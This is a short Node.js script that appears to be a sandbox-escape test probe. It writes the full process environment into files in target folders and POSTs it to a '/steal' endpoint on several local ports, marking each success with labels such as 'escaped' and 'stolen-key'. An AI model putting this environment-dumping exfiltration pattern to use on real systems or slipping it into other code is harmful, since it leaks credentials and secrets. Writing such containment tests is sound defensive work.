import { appendFileSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { dirname, join } from "node:path";
import targets from "./targets.json" with { type: "json" };

const [by = "unknown"] = process.argv.slice(2);

function attempt(action) {
  try {
    action();
  } catch {
    return;
  }
}

attempt(() => appendFileSync(join(homedir(), "ran.txt"), `${by}\n`));
for (const folder of targets.foldersToEscapeTo) {
  attempt(() => writeFileSync(join(folder, `escaped-${by}`), JSON.stringify(process.env)));
  attempt(() => writeFileSync(join(dirname(folder), `escaped-${by}`), JSON.stringify(process.env)));
}
for (const port of targets.ports) {
  await fetch(`http://127.0.0.1:${port}/steal?by=${by}`, {
    method: "POST",
    body: JSON.stringify(process.env),
    signal: AbortSignal.timeout(2000),
  }).catch(() => undefined);
}
process.stdout.write("stolen-key");
